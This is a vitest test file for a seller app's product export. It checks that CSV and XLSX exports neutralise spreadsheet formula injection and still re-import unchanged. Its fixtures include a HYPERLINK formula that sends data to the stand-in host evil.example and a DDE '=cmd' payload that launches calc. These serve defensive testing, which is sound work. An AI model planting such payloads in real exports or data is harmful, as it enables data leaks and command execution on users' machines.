import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { eq, sql } from "drizzle-orm";
import { formulaSafe } from "@domain/formula-safe";
import { SHEET_COLUMNS } from "@domain/spreadsheet-columns";
import { products } from "../../db/schema";
import { createProduct } from "../../test/factories";
import { createTestContext, DB_KIND, loginAsSeller, type TestContext } from "../../test/harness";
import { csvCell } from "../order-desk/order-desk.reports";

/**
 * Exports a seller opens in a spreadsheet program: a text that program
 * would run as a formula is written as text, in CSV (an apostrophe first, as the daily report
 * does) and in XLSX (a string cell, never a formula), and the file still imports unchanged.
 */
let t: TestContext;
let token: string;

beforeAll(async () => {
  t = await createTestContext();
  token = (await loginAsSeller(t)).token;
});
afterAll(() => t.close());
beforeEach(async () => {
  await t.db.delete(products);
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Click for a discount")';
const CMD = "=cmd|' /C calc'!A0";

/** Products whose every text column starts like a formula, with real numbers beside them. */
async function hostileCatalogue() {
  const base = Date.UTC(2026, 10, 1);
  const link = await createProduct(t.db, {
    name: HYPERLINK,
    brand: "@SUM(1+1)",
    price: 24.75,
    category: ["+Promo", "Snacks"],
    description: [CMD, "-10% this week"],
    image: ["/media/aaaaaaaaaaaaaaaa.webp"],
    createdAt: new Date(base),
  });
  const cmd = await createProduct(t.db, {
    name: CMD,
    brand: "-Brand",
    price: 1234.5,
    category: ["Rice"],
    description: ["+63 917 000 0000"],
    image: ["/media/bbbbbbbbbbbbbbbb.webp"],
    createdAt: new Date(base + 1000),
  });
  await t.db.update(products).set({ sku: "-SKU-7", stockCount: 0 }).where(eq(products.id, cmd.id));
  await t.db.update(products).set({ stockCount: 12 }).where(eq(products.id, link.id));
}

async function download(format: "csv" | "xlsx") {
  const res = await t.request("GET", `/api/product/export?format=${format}`, { token });
  expect(res.status).toBe(200);
  return new Uint8Array(await res.arrayBuffer());
}

const stored = () =>
  t.db
    .select()
    .from(products)
    .orderBy(sql`${products.createdAt} desc`);

function form(bytes: Uint8Array<ArrayBuffer>, name: string) {
  const body = new FormData();
  body.append("file", new File([bytes], name));
  return body;
}

describe(`exports that a spreadsheet program cannot run (${DB_KIND})`, () => {
  it("CSV: each text that starts with =, +, -, @ gets an apostrophe; prices and counts stay numbers", async () => {
    await hostileCatalogue();
    const text = new TextDecoder().decode(await download("csv")).replace(/^\uFEFF/, "");
    const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(rows).toEqual([
      [...SHEET_COLUMNS],
      [
        "'-SKU-7",
        `'${CMD}`,
        "'-Brand",
        "1234.50",
        "Rice",
        "'+63 917 000 0000",
        "/media/bbbbbbbbbbbbbbbb.webp",
        "0",
        "yes",
        "no",
      ],
      [
        "",
        `'${HYPERLINK}`,
        "'@SUM(1+1)",
        "24.75",
        "'+Promo|Snacks",
        `'${CMD}\n-10% this week`,
        "/media/aaaaaaaaaaaaaaaa.webp",
        "12",
        "yes",
        "no",
      ],
    ]);
    // No cell of the file starts with a formula's sign (a line inside a cell may).
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it("XLSX: the same texts are string cells, never formulas; numbers stay numbers", async () => {
    await hostileCatalogue();
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download("xlsx")).buffer as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const cells: { value: unknown; type: number; formula?: string }[] = [];
    sheet.eachRow((row, number) => {
      if (number === 1) return;
      row.eachCell((cell) =>
        cells.push({ value: cell.value, type: cell.type, formula: cell.formula }),
      );
    });
    expect(cells.some((c) => c.formula)).toBe(false);
    const texts = cells.filter((c) => typeof c.value === "string").map((c) => c.value);
    expect(texts).toEqual(
      expect.arrayContaining([HYPERLINK, CMD, "@SUM(1+1)", "-Brand", "-SKU-7", "+Promo|Snacks"]),
    );
    for (const c of cells.filter((c) => typeof c.value === "string"))
      expect(c.type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getRow(2).getCell(4).value).toBe(1234.5);
    expect(sheet.getRow(2).getCell(8).value).toBe(0);
    expect(sheet.getRow(3).getCell(8).value).toBe(12);
  });

  it("follows the daily report's rule, which shares the one helper", () => {
    for (const text of [HYPERLINK, CMD, "+1", "-1", "@A1", "\tx", "\rx", "Rice"])
      expect(csvCell(text).replace(/^"|"$/g, "").replaceAll('""', '"')).toBe(formulaSafe(text));
    // A number in the report is a number, never guarded.
    expect(csvCell(-5)).toBe("-5");
  });

  it.each(["csv", "xlsx"] as const)(
    "%s: the export imports back unchanged, apostrophes and all",
    async (format) => {
      await hostileCatalogue();
      const before = await stored();
      const bytes = await download(format);
      const preview = await t.call<{ total: number; unchanged: number; errors: unknown[] }>(
        "POST",
        "/api/product/import/preview",
        { token, body: form(bytes, `products.${format}`) },
      );
      expect(preview.status, JSON.stringify(preview.body)).toBe(200);
      expect(preview.body).toMatchObject({ total: 2, unchanged: 2, errors: [] });
      const res = await t.call<{ message: string }>("POST", "/api/product/import", {
        token,
        body: form(bytes, `products.${format}`),
      });
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body.message).toBe("0 added, 0 updated, 2 unchanged");
      expect(await stored()).toEqual(before);
    },
  );
});
